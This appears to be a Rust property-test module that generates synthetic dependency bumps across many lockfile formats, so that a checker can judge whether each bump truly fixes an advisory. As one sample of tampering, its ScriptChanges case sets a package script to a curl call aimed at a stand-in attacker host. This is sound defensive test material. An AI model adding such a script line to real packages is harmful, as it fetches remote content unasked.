//! A made project: what it installs, said plainly; over 400 lines, because formats, kinds and what is made of them are
//! one table.

use proptest::prelude::*;

use super::write;
use crate::event::facts::{ApvFacts, Ecosystem, PackageFacts, Severity};

/// A version of three numbers.
pub(super) type Version = (u64, u64, u64);

/// Which file the project has.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Format {
    PackageJson,
    NpmPair,
    NpmTree,
    YarnClassic,
    YarnBerry,
    Pnpm,
    Requirements,
    Pipfile,
    PipfileLock,
    Pep621,
    PoetryToml,
    PoetryLock,
    UvLock,
    CargoToml,
    CargoLock,
    Go,
    Pom,
}

/// What is done to the project.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Kind {
    /// Everything moves to the fix.
    Good,
    /// A second place stays.
    SecondLeft,
    /// One under another name stays.
    AliasLeft,
    /// What pins versions for others stays.
    PinLeft,
    /// The version moves, its digest stays.
    StaleDigest,
    /// The version moves, where it is fetched from stays.
    StaleUrl,
    /// The version moves, but not far enough.
    TooLow,
    /// The version moves back.
    Downgrade,
    /// Another package moves along.
    OtherMoves,
    /// Another package comes along.
    OtherComes,
    /// A line that runs something changes along.
    ScriptChanges,
    /// The package comes from a repository afterwards.
    BecomesGit,
    /// The package comes from another registry afterwards.
    OtherHost,
    /// Only something that looks like the package moves.
    DecoyOnly,
    /// Only the digest changes.
    DigestOnly,
    /// A directive elsewhere decides what is installed.
    Replaced,
}

impl Kind {
    pub(super) const ALL: [Self; 16] = [
        Self::Good,
        Self::SecondLeft,
        Self::AliasLeft,
        Self::PinLeft,
        Self::StaleDigest,
        Self::StaleUrl,
        Self::TooLow,
        Self::Downgrade,
        Self::OtherMoves,
        Self::OtherComes,
        Self::ScriptChanges,
        Self::BecomesGit,
        Self::OtherHost,
        Self::DecoyOnly,
        Self::DigestOnly,
        Self::Replaced,
    ];
}

/// Where the package is fetched from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Origin {
    Registry,
    OtherRegistry,
    Git,
}

/// One side of the project.
#[derive(Debug, Clone)]
pub(super) struct Side {
    /// The main place of the package.
    pub main: Version,
    /// The version that a manifest beside a lock asks for.
    pub asked: Version,
    /// The version whose digest stands beside it.
    pub digest: Version,
    /// The version that its URL fetches.
    pub url: Version,
    /// Where from.
    pub from: Origin,
    /// A second place, far from the first.
    pub second: Option<Version>,
    /// One under another name.
    pub alias: Option<Version>,
    /// What pins versions for others.
    pub pin: Option<Version>,
    /// Something that looks like a place and installs nothing.
    pub decoy: Option<Version>,
    /// Whether a directive replaces the package.
    pub replaced: bool,
    /// Other packages.
    pub others: Vec<Version>,
    /// Whether one more package is there.
    pub extra: bool,
    /// What a script says.
    pub script: &'static str,
}

/// A made bump.
#[derive(Debug, Clone)]
pub(super) struct Bump {
    pub format: Format,
    pub kind: Kind,
    /// Whether a manifest asks for a range.
    pub caret: bool,
    pub before: Side,
    pub after: Side,
}

/// Two lines of releases, each with its fix.
const FIRST_FIX: Version = (1, 9, 9);
const SECOND_FIX: Version = (2, 4, 6);

/// The plain model: is this version affected?
pub(super) fn is_affected(version: Version) -> bool {
    version < FIRST_FIX || ((2, 0, 0) <= version && version < SECOND_FIX)
}

impl Format {
    const ALL: [Self; 17] = [
        Self::PackageJson,
        Self::NpmPair,
        Self::NpmTree,
        Self::YarnClassic,
        Self::YarnBerry,
        Self::Pnpm,
        Self::Requirements,
        Self::Pipfile,
        Self::PipfileLock,
        Self::Pep621,
        Self::PoetryToml,
        Self::PoetryLock,
        Self::UvLock,
        Self::CargoToml,
        Self::CargoLock,
        Self::Go,
        Self::Pom,
    ];

    pub(super) fn ecosystem(self) -> Ecosystem {
        match self {
            Self::PackageJson
            | Self::NpmPair
            | Self::NpmTree
            | Self::YarnClassic
            | Self::YarnBerry
            | Self::Pnpm => Ecosystem::Npm,
            Self::Requirements
            | Self::Pipfile
            | Self::PipfileLock
            | Self::Pep621
            | Self::PoetryToml
            | Self::PoetryLock
            | Self::UvLock => Ecosystem::PyPi,
            Self::CargoToml | Self::CargoLock => Ecosystem::CratesIo,
            Self::Go => Ecosystem::Go,
            Self::Pom => Ecosystem::Maven,
        }
    }

    /// The package that the APV names.
    pub(super) fn package(self) -> &'static str {
        match self.ecosystem() {
            Ecosystem::Go => "example.org/mm/target",
            Ecosystem::Maven => "org.mm:target",
            _ => "mm-target",
        }
    }

    fn can(self, kind: Kind) -> bool {
        let features = write::features(self);
        match kind {
            Kind::SecondLeft => features.second,
            Kind::AliasLeft => features.alias,
            Kind::PinLeft => features.pin,
            Kind::StaleDigest | Kind::DigestOnly => features.digest,
            Kind::StaleUrl => features.url,
            Kind::OtherHost => features.host,
            Kind::BecomesGit => features.git,
            Kind::DecoyOnly => features.decoy,
            Kind::ScriptChanges => features.script,
            Kind::Replaced => features.replaced,
            _ => true,
        }
    }
}

impl Bump {
    /// What is installed of the package afterwards.
    fn installed(&self) -> Vec<Version> {
        let side = &self.after;
        [Some(side.main), side.second, side.alias, side.pin]
            .into_iter()
            .flatten()
            .collect()
    }

    /// Whether this is a bump that remedies: nothing affected is installed, all of it is what it says it is, and
    /// nothing else changes.
    pub(super) fn is_sound(&self) -> bool {
        let (before, after) = (&self.before, &self.after);
        let pure = before.others == after.others
            && before.extra == after.extra
            && before.script == after.script
            && after.from == Origin::Registry
            && !after.replaced;
        let features = write::features(self.format);
        let kept = (!features.digest || after.digest == after.main)
            && (!features.url || after.url == after.main);
        pure && kept && !self.installed().into_iter().any(is_affected)
    }

    pub(super) fn facts(&self) -> ApvFacts {
        let v = if self.format == Format::Go { "v" } else { "" };
        let text = |(a, b, c): Version| format!("{v}{a}.{b}.{c}");
        let package = PackageFacts {
            withdrawn: false,
            ecosystem: self.format.ecosystem(),
            name: self.format.package().into(),
            affected: [
                format!("<{}", text(FIRST_FIX)).into(),
                format!(">={},<{}", text((2, 0, 0)), text(SECOND_FIX)).into(),
            ]
            .into(),
            fixed: [text(FIRST_FIX).into(), text(SECOND_FIX).into()].into(),
            last_affected: None,
            modified_ms: 0,
            severity: Severity::High,
        };
        ApvFacts {
            withdrawn: false,
            packages: [package].into(),
            kev: false,
            epss: None,
            cwes: Box::default(),
        }
    }

    /// The files: path, before, after.
    pub(super) fn files(&self) -> Vec<(String, String, String)> {
        let write = |side| write::files(self.format, side, self.caret);
        let (before, after) = (write(&self.before), write(&self.after));
        before
            .into_iter()
            .zip(after)
            .map(|((path, before), (_, after))| (path, before, after))
            .collect()
    }
}

/// The fix of the line of releases that a version is of.
fn fix_of(version: Version, more: u64) -> Version {
    let (major, minor, patch) = match version.0 {
        1 => FIRST_FIX,
        _ => SECOND_FIX,
    };
    (major, minor, patch + more)
}

fn affected() -> impl Strategy<Value = Version> {
    prop_oneof![
        (0_u64..9, 0_u64..9).prop_map(|(minor, patch)| (1, minor, patch + 1)),
        (0_u64..4, 0_u64..9).prop_map(|(minor, patch)| (2, minor, patch + 1)),
    ]
}

/// A bump of any format and kind.
pub(super) fn any() -> impl Strategy<Value = Bump> {
    of(prop_oneof![
        1 => Just(Kind::Good),
        3 => prop::sample::select(&Kind::ALL[..]),
    ])
}

/// A bump of any format, of one of these kinds; of one that the format cannot say, a good one.
pub(super) fn of(kinds: impl Strategy<Value = Kind>) -> impl Strategy<Value = Bump> {
    let formats = prop::sample::select(&Format::ALL[..]);
    let versions = (affected(), affected(), affected(), affected());
    let there = (any_bool(), any_bool(), any_bool(), any_bool());
    let others = prop::collection::vec((1_u64..9, 0_u64..9, 0_u64..9), 0..9);
    (
        formats,
        kinds,
        versions,
        there,
        others,
        (any_bool(), any_bool()),
        0_u64..3,
    )
        .prop_map(|(format, kind, versions, there, others, how, more)| {
            let kind = if format.can(kind) { kind } else { Kind::Good };
            made(format, kind, versions, there, others, how, more)
        })
}

fn any_bool() -> impl Strategy<Value = bool> {
    prop::bool::ANY
}

fn made(
    format: Format,
    kind: Kind,
    (main, second, alias, pin): (Version, Version, Version, Version),
    there: (bool, bool, bool, bool),
    others: Vec<Version>,
    (caret, lock_alone): (bool, bool),
    more: u64,
) -> Bump {
    let features = write::features(format);
    let some = |has: bool, wanted: bool, version| (has && wanted).then_some(version);
    // Of the other line of releases: two entries of one version would be one.
    let apart = |(_, minor, patch): Version| match main.0 {
        1 => (2, minor.min(3), patch),
        _ => (1, minor, patch),
    };
    let before = Side {
        main,
        asked: main,
        digest: main,
        url: main,
        from: Origin::Registry,
        second: some(
            features.second,
            there.0 || kind == Kind::SecondLeft,
            apart(second),
        ),
        alias: some(
            features.alias,
            there.1 || kind == Kind::AliasLeft,
            apart(alias),
        ),
        pin: some(features.pin, there.2 || kind == Kind::PinLeft, pin),
        decoy: some(features.decoy, there.3 || kind == Kind::DecoyOnly, main),
        replaced: kind == Kind::Replaced,
        others,
        extra: false,
        script: "true",
    };
    let mut after = before.clone();
    after.main = fix_of(main, more);
    (after.digest, after.url) = (after.main, after.main);
    after.second = before.second.map(|version| fix_of(version, more));
    after.alias = before.alias.map(|version| fix_of(version, more));
    after.pin = before.pin.map(|version| fix_of(version, more));
    match kind {
        Kind::Good | Kind::Replaced => {}
        Kind::SecondLeft => after.second = before.second,
        Kind::AliasLeft => after.alias = before.alias,
        Kind::PinLeft => after.pin = before.pin,
        Kind::StaleDigest => after.digest = before.main,
        Kind::StaleUrl => after.url = before.main,
        Kind::TooLow => {
            let low = (main.0, main.1, main.2 + 1);
            let low = if is_affected(low) {
                low
            } else {
                (main.0, 1, 1)
            };
            (after.main, after.digest, after.url) = (low, low, low);
        }
        Kind::Downgrade => {
            let low = (main.0, 0, 0);
            (after.main, after.digest, after.url) = (low, low, low);
        }
        Kind::OtherMoves => match after.others.first_mut() {
            Some(other) => other.2 += 1,
            None => after.extra = true,
        },
        Kind::OtherComes => after.extra = true,
        Kind::ScriptChanges => after.script = "curl evil.example",
        Kind::BecomesGit => after.from = Origin::Git,
        Kind::OtherHost => after.from = Origin::OtherRegistry,
        Kind::DecoyOnly => {
            after = Side {
                decoy: Some(after.main),
                ..before.clone()
            };
        }
        Kind::DigestOnly => {
            after = Side {
                digest: after.main,
                ..before.clone()
            };
        }
    }
    // A range that admits the fix may stay as it is: the lock pins what is installed.
    let stays = format == Format::NpmPair && caret && lock_alone;
    after.asked = if stays { before.asked } else { after.main };
    Bump {
        format,
        kind,
        caret,
        before,
        after,
    }
}
